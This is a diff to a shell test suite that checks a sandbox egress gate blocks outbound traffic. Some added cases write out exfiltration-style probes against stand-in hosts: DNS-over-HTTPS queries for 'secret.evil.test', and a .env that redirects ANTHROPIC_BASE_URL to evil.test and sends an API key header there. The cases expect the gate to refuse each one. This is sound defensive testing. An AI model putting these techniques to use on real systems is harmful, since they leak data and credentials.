@@ -17,6 +17,8 @@ address() { off || docker inspect -f "{{(index .NetworkSettings.Networks \"$2\")
 case_ "nothing answers by address past the gate (N01)"
 sh_ "$s" "curl -sS -m 6 --noproxy '*' https://1.1.1.1/"
 expect "no connection" no_connection
+sh_ "$s" "curl -sS -m 6 -o /dev/null -w '%{http_connect}' https://1.1.1.1/"
+expect_out 403
 sh_ "$s" "curl -sS -m 6 --noproxy '*' http://$UP/"
 expect "no connection to the upstream itself" [ "$status" -ne 0 ]
 refuse_out hello
@@ -36,7 +38,9 @@ if [ "$IT_BACKEND" = docker ]; then
 	expect "no answer at the first address" [ "$status" -ne 0 ]
 fi
 
-case_ "UDP, DNS over TLS and ICMP go nowhere (N02)"
+case_ "UDP, DNS over TLS and HTTPS, raw packets and ICMP go nowhere (N02, N04)"
+sh_ "$s" 'for u in https://1.1.1.1/dns-query https://dns.google/resolve; do curl -sS -m 6 -o /dev/null -w "doh %{http_connect}\n" "$u?name=secret.evil.test"; done'
+expect "the gate refuses both" [ "$(grep -c '^doh 403$' "$out")" -eq 2 ]
 sh_ "$s" 'python3 - <<"PY"
 import socket
 for host, port in (("1.1.1.1", 53), ("8.8.8.8", 443), ("1.1.1.1", 123)):
@@ -101,6 +105,13 @@ sh_ "$s" 'grep -E "CapEff|NoNewPrivs|Seccomp:" /proc/self/status'
 expect_out "$(printf 'NoNewPrivs:\t1')"
 expect_out "$(printf 'Seccomp:\t2')"
 refuse_out 3fffffff
+
+case_ "a project that sets the model's address, or its own CA, does not get out by that (N18)"
+sh_ "$s" 'mkdir -p /tmp/n18 && cd /tmp/n18 && echo "ANTHROPIC_BASE_URL=https://evil.test" >.env && . ./.env
+	curl -sS -m 6 -o /dev/null -w "base %{http_connect}\n" -H "x-api-key: k" "$ANTHROPIC_BASE_URL/v1/messages"
+	NODE_EXTRA_CA_CERTS=/tmp/n18/none.pem node -e "require(\"https\").get(\"https://evil.test/\").on(\"error\", e => console.log(\"node\", e.code))" 2>/dev/null'
+expect_out "base 403"
+expect_out "node ENOTFOUND"
 
 case_ "an allowed host is refused on another port (N10)"
 for p in 22 25 8443; do
